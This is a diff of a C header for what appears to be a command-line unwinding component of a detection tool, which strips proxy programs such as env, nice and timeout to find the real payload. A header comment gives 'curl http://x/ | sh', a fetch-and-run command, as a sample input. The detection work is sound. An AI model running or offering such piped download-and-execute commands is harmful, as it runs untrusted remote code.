@@ -6,7 +6,9 @@
  *   env A=1 nice timeout 5 bash -c 'curl http://x/ | sh'
  *   chain: env, nice, timeout, bash, sh      payload: PIPE, "curl http://x/ | sh", piped from "curl http://x/"
  *
- * A command line that its grammar does not fit gives no payload, never a wrong one.
+ * A command line that its grammar does not fit gives no payload, never a wrong one: where an option that the grammar
+ * does not list stands before the argument that would name the payload, that argument may be the option's value, and
+ * the payload is not known.
  */
 #ifndef SN_UNWIND_H
 #define SN_UNWIND_H
@@ -18,7 +20,7 @@ enum sn_unwind_limits {
 };
 
 enum sn_payload_kind {
-	SN_PAYLOAD_NONE = 0,
+	SN_PAYLOAD_NONE = 0,	      /* not known */
 	SN_PAYLOAD_COMMAND = 1,	      /* argv */
 	SN_PAYLOAD_INLINE_SCRIPT = 2, /* text */
 	SN_PAYLOAD_SCRIPT_FILE = 3,   /* path */
@@ -34,8 +36,8 @@ static inline bool sn_payload__is_text(uint32_t kind)
 }
 
 struct sn_unwound {
-	uint32_t depth;				/* proxies; 0: none, and nothing below is set */
-	uint32_t kind;				/* enum sn_payload_kind */
+	uint32_t depth; /* proxies; 0: none, and nothing below is set but name, is_proxy, children */
+	uint32_t kind;	/* enum sn_payload_kind; NONE: not known */
 	struct sn_bytes chain[SN_UNWIND_DEPTH]; /* basenames, outermost first */
 	struct sn_bytes class;			/* of the innermost proxy */
 	struct sn_bytes argv;			/* each argument ended by NUL, the last perhaps not */
@@ -43,17 +45,23 @@ struct sn_unwound {
 	struct sn_bytes path;			/* of a program, a script or a library, as it was given */
 	struct sn_bytes url;			/* the first one in the payload */
 	struct sn_bytes piped;			/* the commands whose output is run */
+	struct sn_bytes doubt;			/* kind NONE: the option that leaves it open what the payload is */
+	struct sn_bytes name;			/* of the program itself, also where depth is 0 */
 	bool truncated;				/* the arguments were cut within the payload */
+	bool is_proxy, children;		/* it has a grammar, with SN_GR_CHILDREN; also where depth is 0 */
 };
 
 /* One per matching thread; what an unwinding found stands in it until the next one. */
 struct sn_unwinder {
+	uint32_t limit; /* proxies in a chain, at most SN_UNWIND_DEPTH; behind them all is payload */
 	uint32_t used;
 	uint8_t room[SN_UNWIND_ROOM];
 };
 
-/* `image`: path of the executable; `argv`: arguments, each ended by NUL, borrowed as long as `out` is used;
+/* Whether `path` is where programs are installed: a script there of a proxy's name is that proxy (parallel in perl). */
+bool sn_unwinder__is_installed(struct sn_bytes path);
+/* `program`: path or name of the executable; `argv`: arguments, each ended by NUL, borrowed as long as `out` is used;
  * `cut`: they go on beyond that. Returns out->depth. */
-uint32_t sn_unwinder__run(struct sn_unwinder *unwinder, const struct sn_grammars *grammars, struct sn_bytes image,
+uint32_t sn_unwinder__run(struct sn_unwinder *unwinder, const struct sn_grammars *grammars, struct sn_bytes program,
 			  struct sn_bytes argv, bool cut, struct sn_unwound *out);
 #endif
